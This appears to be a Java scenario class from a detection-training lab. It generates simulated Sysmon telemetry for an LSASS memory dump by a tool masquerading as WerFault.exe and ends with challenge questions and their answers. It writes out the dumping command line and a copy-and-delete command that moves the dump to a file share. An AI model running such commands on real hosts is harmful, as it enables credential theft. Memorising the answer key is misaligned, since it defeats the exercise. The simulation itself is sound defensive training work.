package io.helklab.samples.generator.scenario;

import io.helklab.samples.AttackTechnique;
import io.helklab.samples.RecordFormat;
import io.helklab.samples.generator.HelkValues;
import io.helklab.samples.generator.domain.SimulatedProcess;
import io.helklab.samples.generator.simulation.HostSimulation;
import io.helklab.samples.generator.simulation.UserDesktop;

import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalTime;
import java.util.List;
import java.util.Map;

/** A renamed memory dumper, masquerading as WerFault.exe, dumps LSASS on WKS02. */
public final class LsassCredentialDumping extends AttackScenario {

    private static final String DUMPER = "C:\\Users\\Public\\Libraries\\WerFault.exe";

    public LsassCredentialDumping() {
        super("lsass-credential-dumping", "LSASS memory dump by a masquerading tool",
                List.of(new AttackTechnique("T1003.001", "OS Credential Dumping: LSASS Memory"),
                        new AttackTechnique("T1036.005", "Masquerading: Match Legitimate Name or Location")),
                RecordFormat.WINLOGBEAT_7, LocalDate.of(2026, 10, 6), List.of("DC01", "SRV01", "WKS02", "WKS03"),
                "After lunch an intruder using bchen's elevated session on WKS02 runs a tool named WerFault.exe from "
                        + "C:\\Users\\Public\\Libraries, far from the real one in System32. It loads dbghelp/dbgcore, opens LSASS "
                        + "first with 0x1010 and then with PROCESS_ALL_ACCESS (0x1FFFFF), and writes a full minidump next to itself. "
                        + "Defender and WMI open LSASS all day with harmless masks (0x101000, 0x1400): the class must tell them apart "
                        + "by GrantedAccess, CallTrace (dbgcore.DLL/dbghelp.dll frames) and the source image's location.");
    }

    @Override
    public void perform(ScenarioContext context) {
        HostSimulation workstation = context.machine("WKS02");
        Instant start = context.at(LocalTime.of(13, 41, 22));
        UserDesktop desktop = workstation.desktopAt(start);
        SimulatedProcess shell = workstation.start(start, desktop.explorer(), AttackTools.CMD, "\"C:\\Windows\\system32\\cmd.exe\" ",
                desktop.session(), "High", "C:\\Windows\\system32\\");
        SimulatedProcess lsass = workstation.service("lsass");
        String dumpFile = "C:\\Users\\Public\\Libraries\\wer5F1A.tmp.dmp";
        Instant dumpAt = start.plusSeconds(74);
        SimulatedProcess dumper = workstation.start(dumpAt, shell, DUMPER,
                "WerFault.exe -accepteula -ma " + lsass.processId() + " " + dumpFile);
        workstation.loadModules(dumpAt.plusMillis(80), dumper, "C:\\Windows\\System32\\dbghelp.dll", "C:\\Windows\\System32\\dbgcore.dll");
        int thread = workstation.newThreadId();
        String frames = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|";
        workstation.sysmon().processAccess(dumpAt.plusMillis(420), dumper, thread, lsass, "0x1010",
                frames + DUMPER + "+1b9f2|C:\\Windows\\System32\\KERNEL32.DLL+17034|C:\\Windows\\SYSTEM32\\ntdll.dll+52651");
        workstation.sysmon().processAccess(dumpAt.plusMillis(455), dumper, thread, lsass, "0x1FFFFF",
                frames + "C:\\Windows\\SYSTEM32\\dbgcore.DLL+6c2b|C:\\Windows\\SYSTEM32\\dbgcore.DLL+ba3e|C:\\Windows\\SYSTEM32\\dbghelp.dll+38d4b|"
                        + DUMPER + "+1c4a0|C:\\Windows\\System32\\KERNEL32.DLL+17034|C:\\Windows\\SYSTEM32\\ntdll.dll+52651");
        workstation.sysmon().fileCreate(dumpAt.plusMillis(470), dumper, dumpFile);
        workstation.terminate(dumpAt.plusSeconds(3), dumper);
        SimulatedProcess cleanup = workstation.start(dumpAt.plusSeconds(95), shell, AttackTools.CMD,
                "C:\\Windows\\system32\\cmd.exe /c \"copy " + dumpFile + " \\\\SRV01\\Public$\\w.bin && del " + dumpFile + "\"");
        workstation.network().connectOut(dumpAt.plusSeconds(96), cleanup, context.domain().host("SRV01"), 445);
        workstation.terminate(dumpAt.plusSeconds(99), cleanup);
        workstation.terminate(dumpAt.plusSeconds(400), shell);

        context.answers()
                .processCreated("The masquerading WerFault.exe that dumped LSASS", dumper)
                .processCreated("The elevated command prompt that started the dumper", shell)
                .sysmonEvent("LSASS opened with PROCESS_ALL_ACCESS by the dumper", 10, dumper, Map.of(
                        "target_process_path", HelkValues.lower(lsass.path()),
                        "target_process_guid", HelkValues.guid(lsass.processGuid()),
                        "process_granted_access", HelkValues.number("0x1FFFFF")), 1)
                .sysmonEvent("LSASS opened for query and read by the dumper", 10, dumper, Map.of(
                        "target_process_path", HelkValues.lower(lsass.path()),
                        "process_granted_access", HelkValues.number("0x1010")), 1)
                .sysmonEvent("The minidump written to disk", 11, dumper, Map.of("file_name", HelkValues.lower(dumpFile)), 1)
                .challenge("command-line", "What is the command line of the process that dumped LSASS?", HelkValues.lower(dumper.commandLine()))
                .challenge("dumper-path", "Where on disk does the dumping tool live?", HelkValues.lower(DUMPER))
                .challenge("granted-access", "Which GrantedAccess mask did the dump use?", "0x1fffff", "2097151")
                .challenge("dump-file", "Which file received the dump?", HelkValues.lower(dumpFile))
                .challenge("process-guid", "What is the ProcessGuid of the dumper?", HelkValues.guid(dumper.processGuid()))
                .challenge("host", "On which host were credentials dumped?", "wks02", "wks02.helk.lab");
    }
}
